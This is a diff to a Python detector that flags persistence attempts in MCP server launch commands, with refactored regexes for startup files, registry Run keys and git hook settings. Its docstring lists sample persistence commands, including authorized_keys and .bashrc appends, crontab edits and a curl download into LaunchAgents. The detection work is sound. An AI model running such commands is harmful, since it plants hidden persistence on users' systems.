@@ -6,7 +6,7 @@ terminal, commit, or at a set time. It goes on running when the server is long r
 Flags:
     EXEC-PERSIST         sh -c 'echo id >> ~/.bashrc'
     EXEC-PERSIST         sh -c 'echo key | tee -a ~/.ssh/authorized_keys'
-    EXEC-PERSIST         cp notes.desktop ~/.config/autostart/notes.desktop
+    EXEC-PERSIST         cp notes.desktop /home/me/.config/autostart/notes.desktop
     EXEC-PERSIST         sh -c 'curl -so ~/Library/LaunchAgents/n.plist https://files.example.com/n.plist'
     EXEC-PERSIST         sh -c '(crontab -l; echo "* * * * * id") | crontab -'
     EXEC-PERSIST         sh -c 'systemctl --user enable notes'
@@ -17,9 +17,9 @@ Passes:
     sh -c '. ~/.bashrc; npx -y notes-mcp@1.2.3'
     sh -c 'cat ~/.profile'
     sh -c 'npx -y notes-mcp@1.2.3 >> ~/notes.log'
-    cp notes.txt ~/notes-copy.txt
-    npx -y notes-mcp@1.2.3 ~/.bashrc
-    cmd /c 'reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run & npx -y notes-mcp@1.2.3'
+    cp notes.txt /home/me/notes-copy.txt
+    npx -y notes-mcp@1.2.3 /home/me/.bashrc
+    sh -c 'git config --get user.name; npx -y notes-mcp@1.2.3'
 Source: MITRE ATT&CK T1546, T1547, T1053 and T1543.
 """
 
@@ -49,7 +49,8 @@ PLACES = re.compile(
     r"(?:^|[/\\])\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|"
     r"tcshrc|login|xinitrc|xprofile|xsessionrc|xsession|pam_environment|vimrc|gvimrc|gitconfig|npmrc|envrc|"
     r"inputrc|screenrc|tmux\.conf|exrc|gdbinit|pdbrc|irbrc|pythonrc)$|"
-    r"\.config/(?:autostart|systemd/user|fish|git|nvim|environment\.d|plasma-workspace)(?:/|$)|\.ssh/(?:authorized_keys2?|rc|config)$|"
+    r"\.config/(?:autostart|systemd/user|fish|git|nvim|environment\.d|plasma-workspace)(?:/|$)|"
+    r"\.ssh/(?:authorized_keys2?|rc|config)$|"
     r"\.git/hooks/|\.git/config$|\.local/share/systemd/user|"
     r"^/etc/(?:profile|bash|zsh|cron|anacrontab|systemd|init|rc|ld\.so|environment|sudoers|pam|security|X11/Xsession|"
     r"xdg/autostart|udev/rules|apt/apt\.conf|NetworkManager/dispatcher|update-motd|hosts$|crontab)|"
@@ -60,7 +61,8 @@ PLACES = re.compile(
     re.IGNORECASE,
 )
 _KEYS = re.compile(
-    r"CurrentVersion[\\/](?:Run|RunOnce|RunServices|Policies[\\/]Explorer[\\/]Run|Winlogon|Image File Execution Options)|"
+    r"CurrentVersion[\\/](?:Run|RunOnce|RunServices|Policies[\\/]Explorer[\\/]Run|Winlogon|"
+    r"Image File Execution Options)|"
     r"Winlogon|Active Setup|Command Processor|AppInit_DLLs|[\\/]Services[\\/]|UserInitMprLogonScript",
     re.IGNORECASE,
 )
@@ -90,15 +92,29 @@ _PLANTS: dict[str, tuple[str, ...]] = {
     "systemd-run": ("--on-calendar", "--on-boot", "--on-startup", "--on-active", "--on-unit"),
     "incrontab": (),
 }
+#: Settings of git that name a command or a folder of commands.
+_GIT_KEYS = (
+    "core.hookspath",
+    "alias.",
+    "core.sshcommand",
+    "core.pager",
+    "core.editor",
+    "core.fsmonitor",
+    "credential.helper",
+    "init.templatedir",
+    "diff.external",
+)
 _REGISTRY = frozenset(("reg", "new-itemproperty", "set-itemproperty", "sp", "new-item", "set-item", "ni", "si"))
-_MOVES = frozenset(("cp", "mv", "ln", "install", "rsync", "copy", "move", "xcopy", "robocopy", "copy-item", "move-item"))
+_MOVES = frozenset(
+    ("cp", "mv", "ln", "install", "rsync", "copy", "move", "xcopy", "robocopy", "copy-item", "move-item")
+)
 
 
 def _plants(name: str, words: tuple[str, ...]) -> bool:
     low = tuple(word.casefold() for word in words)
     if name in _PLANTS:
         needs = _PLANTS[name]
-        return (not needs and (name not in ("at", "batch") or not low[:1] == ("-l",))) or any(
+        return (not needs and (name not in ("at", "batch") or low[:1] != ("-l",))) or any(
             word.startswith(needs) for word in low if needs
         )
     if name == "crontab":
@@ -106,10 +122,7 @@ def _plants(name: str, words: tuple[str, ...]) -> bool:
     if name in _REGISTRY:
         return (name != "reg" or low[:1] in (("add",), ("import",), ("copy",))) and any(map(_KEYS.search, words))
     if name == "git":
-        return low[:1] == ("config",) and any(
-            word.startswith(("core.hookspath", "alias.", "core.sshcommand", "core.pager", "core.editor", "core.fsmonitor",
-                             "credential.helper", "init.templatedir", "diff.external")) for word in low
-        )  # fmt: skip
+        return low[:1] == ("config",) and any(word.startswith(_GIT_KEYS) for word in low)
     if name == "defaults":
         return low[:1] == ("write",) and any("loginwindow" in word or "loginhook" in word for word in low)
     if name == "osascript":
